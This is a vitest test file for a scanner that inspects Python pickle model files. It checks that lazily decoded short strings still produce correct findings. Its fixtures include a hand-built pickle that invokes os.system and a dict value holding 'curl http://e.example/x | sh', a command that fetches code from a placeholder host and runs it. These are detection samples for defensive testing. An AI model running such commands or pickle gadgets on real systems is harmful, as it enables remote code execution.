import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { scanBuffer } from "../../../src/scan/model/index.js";

// Short strings are decoded only when read (session 18): every reader must still see the right text.
const py = (code: string) => execFileSync("python3", ["-c", `import pickle, sys\n${code}`], { maxBuffer: 1 << 26 });
const findings = async (b: Uint8Array) => (await scanBuffer(b, "m.pkl")).findings;

describe("lazily decoded pickle strings", () => {
  it("a call named by latin1 and utf8 short strings is still named, with its rendered argument", async () => {
    // SHORT_BINSTRING (latin1) operands of STACK_GLOBAL, then a SHORT_BINUNICODE argument.
    const b = Buffer.concat([Buffer.from([0x80, 4]), Buffer.from("U\x02osU\x06system\x93\x8c\x08id -u ok\x85R.", "latin1")]);
    const f = await findings(b);
    expect(f.some((x) => x.severity === "critical" && `${x.entity} ${x.message}`.includes("os.system"))).toBe(true);
    expect(JSON.stringify(f)).toContain("id -u ok");
  });

  it("code text in a dict key or value is still found (low), non-ASCII keys included", async () => {
    const b = py(`sys.stdout.buffer.write(pickle.dumps({"clé": 1, "ключ": 2, "x": "os.system('curl http://e.example/x | sh')"}, protocol=4))`);
    expect((await findings(b)).map((x) => `${x.severity}:${x.ruleId}`)).toEqual(["low:model.data.code-text"]);
  });

  it("a vocabulary with hyphens, slashes and parentheses in its keys stays clean", async () => {
    const b = py(`sys.stdout.buffer.write(pickle.dumps({f"tok-{i}/(x)|y": i for i in range(20000)}, protocol=4))`);
    expect(await findings(b)).toEqual([]);
  });
});
